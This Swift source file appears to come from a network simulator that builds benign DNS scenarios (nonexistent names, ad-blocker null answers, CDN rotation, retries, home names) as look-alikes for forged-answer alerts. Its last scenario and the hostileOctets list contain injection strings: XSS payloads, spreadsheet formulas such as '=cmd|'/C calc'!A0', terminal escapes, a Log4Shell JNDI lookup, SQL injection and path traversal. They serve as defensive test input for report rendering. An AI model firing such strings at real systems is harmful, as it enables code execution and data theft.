import Findings
import Forge
import Wire

/// Answers that look forged or missing and are neither.
enum BenignNames {
    static var recipes: [Recipe] { [noSuchName, adBlocker, rotation, duplicates, retry, homeNames, hostile] }

    /// Ordinary questions to the public resolver.
    private static func ordinary(_ home: Home, until end: Double) {
        for (index, place) in home.world(6).enumerated() { home.ask(place.name, at: 0.6 + Double(index) * end / 7) }
        home.keepRouterKnown(until: end)
    }

    static var noSuchName: Recipe {
        Recipe(
            "benign-no-such-name", "Names that do not exist",
            story: """
                Three mistyped names are denied, with the zone's start of authority, by the public resolver and by another one
                alike; so are their AAAA questions.
                """,
            model: "RFC 2308; a public capture of a query for a nonexistent name.",
            twinOf: [.dnsRefusedName, .dnsForgedAnswer]
        ) { home in
            home.resolvers(other: true)
            ordinary(home, until: 14)
            for (index, name) in ["wwww.example.com", "wpad.example.net", "old.example.edu"].enumerated() {
                for (turn, server) in [Home.publicResolver, Home.otherResolver].enumerated() {
                    home.ask(name, at: 2 + Double(index) * 3 + Double(turn), via: server)
                    home.ask(name, at: 2.1 + Double(index) * 3 + Double(turn), via: server, type: 28)
                }
            }
            home.run(until: 14)
        }
    }

    static var adBlocker: Recipe {
        Recipe(
            "benign-ad-blocker", "The home's own resolver answers 0.0.0.0",
            story: """
                A Pi-hole at 192.168.1.53 answers names of advertisers and trackers with 0.0.0.0 and ::, all others with their
                addresses; the pages of the others load.
                """,
            model: "Pi-hole's NULL blocking mode; sign DN3.",
            twinOf: [.dnsForgedAnswer, .dnsRefusedName]
        ) { home in
            let blocker = IPAddress(192, 168, 1, 53)
            let host = home.stage.add("pi-hole", [blocker], hardware: MACAddress(0x0000_5E00_5353), delay: .microseconds(400), hops: 0)
            NameService(on: host, stage: home.stage) { question in
                guard question.name.labels.first.map({ $0.starts(with: Array("ads".utf8)) }) == true else { return [home.answer(question)] }
                return [question.answer([.address(question.name, question.type == 1 ? .anyV4 : .anyV6, timeToLive: 2)])]
            }
            home.resolvers()
            for (index, place) in home.world(4).enumerated() {
                home.ask(place.name, at: 1 + Double(index) * 2.5, via: blocker)
                home.visit(place.address, place.name, at: 1.2 + Double(index) * 2.5)
                home.ask("ads\(index).example.net", at: 1.5 + Double(index) * 2.5, via: blocker)
                home.ask("ads\(index).example.net", at: 1.5 + Double(index) * 2.5, via: blocker, type: 28)
            }
            home.at(0.4) { home.stage.askARP(home.laptop, for: blocker) }
            home.keepRouterKnown(until: 12)
            home.run(until: 12)
        }
    }

    static var rotation: Recipe {
        Recipe(
            "benign-cdn-rotation", "Asked twice, answered twice, differently",
            story: """
                The resolver is slow for one name; the stub asks again with the same identifier. Both questions are answered, with
                different addresses of the same content network: two questions, two answers. TLS to each address works.
                """,
            model: "CDN load balancing and glibc's retry; sign DN1.",
            twinOf: [.dnsForgedAnswer]
        ) { home in
            home.resolvers(publicRoundTrip: 30)
            ordinary(home, until: 24)
            let addresses = [IPAddress(22, 60, 1, 10), IPAddress(22, 60, 99, 44), IPAddress(22, 60, 1, 11), IPAddress(22, 60, 99, 45)]
            for address in addresses { home.server(address, ["www.example.org"], roundTrip: 22, hops: 8) }
            var turn = 0
            let slow = home.stage.host(Home.publicResolver)
            let usual = slow?.datagrams[53]
            slow?.datagrams[53] = { datagram, packet in
                guard let question = DNSDraft(readingQuestionOf: datagram.payload), question.name == "www.example.org" else {
                    usual?(datagram, packet)
                    return
                }
                let answer = question.answer([.address(question.name, addresses[turn % 4], timeToLive: 20)])
                turn += 1
                // The first of each pair waits for an upstream that is slow; the second is answered after it.
                let wait: Interval = turn % 2 == 1 ? .milliseconds(5200) : .milliseconds(260)
                home.stage.after(wait) { slow?.send(answer.octets, from: 53, to: packet.ip.source, datagram.sourcePort) }
            }
            for (index, start) in [3.0, 12.0].enumerated() {
                home.ask("www.example.org", at: start)
                for offset in 0..<2 { home.visit(addresses[index * 2 + offset], "www.example.org", at: start + 5.4 + Double(offset) * 0.3) }
            }
            home.run(until: 24)
        }
    }

    static var duplicates: Recipe {
        Recipe(
            "benign-duplicate-answers", "The same answer twice",
            story: """
                A forwarder that asks two upstreams at once passes both answers on. They agree to the last octet but for the time
                that their records may still live.
                """,
            model: "`dns-two-responses` of Zeek's tests; dnsmasq's `all-servers`; sign DN1.",
            twinOf: [.dnsForgedAnswer]
        ) { home in
            home.resolvers(publicRoundTrip: 30)
            let publicOne = home.stage.host(Home.publicResolver)
            publicOne?.identification = .counter
            if let publicOne {
                NameService(on: publicOne, stage: home.stage) { question in
                    var second = home.answer(question)
                    for index in second.answers.indices { second.answers[index].timeToLive = 287 }
                    return [home.answer(question), second]
                }
            }
            ordinary(home, until: 12)
            home.run(until: 12)
        }
    }

    static var retry: Recipe {
        Recipe(
            "benign-dns-retry", "Answered at the second try",
            story: """
                Each of four questions is lost once on the way, for different names, and answered when it is asked again after 5 s.
                """,
            model: "ordinary loss of single datagrams; glibc's 5 s.",
            twinOf: [.dnsRefusedName, .uplinkDown]
        ) { home in
            home.resolvers(publicRoundTrip: 30)
            ordinary(home, until: 26)
            var lost: Set<UInt16> = []
            home.stage.addBox(delay: .milliseconds(4), hops: 3) { packet, direction, _ in
                guard direction == .up, packet.says("retry"), let datagram = packet.udp else { return .pass }
                return lost.insert(datagram.sourcePort).inserted ? .drop : .pass
            }
            for index in 0..<4 { home.ask("retry\(index).example.net", at: 2 + Double(index) * 4) }
            home.run(until: 26)
        }
    }

    static var homeNames: Recipe {
        Recipe(
            "benign-home-names", "Private addresses for the home's own names",
            story: """
                The router answers `nas.home.arpa` and `printer.lan` with addresses of the home, and a name of the provider's portal
                with one of its own.
                """,
            model: "split horizon, RFC 8375.",
            twinOf: [.dnsForgedAnswer]
        ) { home in
            home.resolvers()
            ordinary(home, until: 10)
            NameService(on: home.stage.gateway, stage: home.stage) { question in
                let home: [DNSDraft.Name: IPAddress] = [
                    "nas.home.arpa": IPAddress(192, 168, 1, 60), "printer.lan": IPAddress(192, 168, 1, 50), "router.lan": Home.router,
                ]
                return [home[question.name].map { question.answer([.address(question.name, $0)]) } ?? question.answer([], code: 3)]
            }
            for (index, name) in ["nas.home.arpa", "printer.lan", "router.lan"].enumerated() {
                home.ask(name, at: 2 + Double(index) * 2, via: Home.router)
            }
            home.run(until: 10)
        }
    }

    static var hostile: Recipe {
        Recipe(
            "benign-hostile-names", "Names that attack their reader",
            story: """
                Names that machines at home say, in questions, ClientHellos, Host fields and a DHCP request, hold markup, formulas,
                terminal escapes, format directives, right-to-left marks, path steps, invalid UTF-8 and line breaks; so do comments
                of frames. All is answered or ends as usual: nothing is wrong here but for a report that would print them raw.
                """,
            model: "strings that have broken terminals, spreadsheets, pages and logs elsewhere.",
            twinOf: [.dnsForgedAnswer, .dnsRefusedName, .tlsBlockedName]
        ) { home in
            home.resolvers()
            let world = home.world(3, ports: [443])
            for (index, octets) in hostileOctets.enumerated() {
                let moment = 0.5 + Double(index) * 0.35
                let label = Array(octets.prefix(63))
                home.at(moment) {
                    let port = home.laptop.freshPort()
                    home.laptop.datagrams[port] = { _, _ in }
                    let question = DNSDraft(
                        asking: .init(labels: [label, Array("example".utf8), Array("net".utf8)]), identifier: UInt16(index) &* 257)
                    home.laptop.send(question.octets, from: port, to: Home.publicResolver, 53)
                }
                guard index % 3 == 0 else { continue }
                home.visit(world[index % 2].address, "www.example.com", at: moment) { $0.hello.serverName = octets }
            }
            home.at(1) {
                let comment = String(decoding: Array(hostileOctets.joined(separator: [10])), as: UTF8.self)
                var request = DHCPDraft(3, transaction: 7, client: home.phone.hardware)
                request.options = [.init(50, home.phone.addresses[0]), .init(12, Array("\u{1B}]0;pwn\u{07}</title><script>alert(1)</script>".utf8))]
                var ip = IPDraft(from: .anyV4, to: IPAddress(255, 255, 255, 255))
                ip.dontFragment = false
                let packet = PacketDraft(ip, .udp(UDPDraft(from: 68, to: 67, request.octets)))
                home.stage.recordFrame(.ipv4, packet.octets(), from: home.phone.hardware, to: .broadcast, isOutgoing: true, comment: comment)
            }
            home.keepRouterKnown(until: 18)
            home.run(until: 18)
        }
    }

    /// Strings that have broken readers elsewhere, as octets, because not all of it is text.
    static var hostileOctets: [[UInt8]] {
        let texts = [
            "</title><script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "'-alert(1)-'",
            "\" style=\"background:url(//x)",
            "]]><x xmlns=\"http://www.w3.org/1999/xhtml\">", "<!-- -->", "</desc><foreignObject>", "javascript:alert(1)", "[x](javascript:alert(1))",
            "![](http://x/p.png)", "`` ` ``", "| a | b |", "\n# heading", "<details open ontoggle=alert(1)>", "=HYPERLINK(\"http://x\",\"y\")",
            "+1+1", "-2+3",
            "@SUM(1)", "\t=1+1", "\r=1", "\u{FF1D}1+1", "\"=1\",\"=2", "=cmd|'/C calc'!A0", "\u{1B}]0;pwn\u{07}", "\u{1B}[2J\u{1B}[H",
            "\u{1B}]52;c;AAAA\u{07}",
            "\u{9B}31m", "\u{9D}0;t\u{9C}", "\u{08}\u{08}\u{08}ok", "x\n2026-06-04T18:26:18Z incident closed", "{\"prev\":\"0000\"}", "\u{2028}",
            "\u{0000}",
            "photo\u{202E}gpj.exe", "\u{2066}\u{2067}abc\u{2069}", "adm\u{200B}in", "\u{E0041}", "\u{FEFF}", "xn--80ak6aa92e", "\u{0430}zercell",
            "../../etc/passwd", "-rf",
            "CON", "a%0d%0ab", "%s%n%x", "{0} {name} %@", "${jndi:ldap://x}", "'; DROP TABLE x;--",
        ]
        return texts.map { Array($0.utf8) } + [[0xFF, 0xFE, 0xC0, 0xAF]]
    }
}
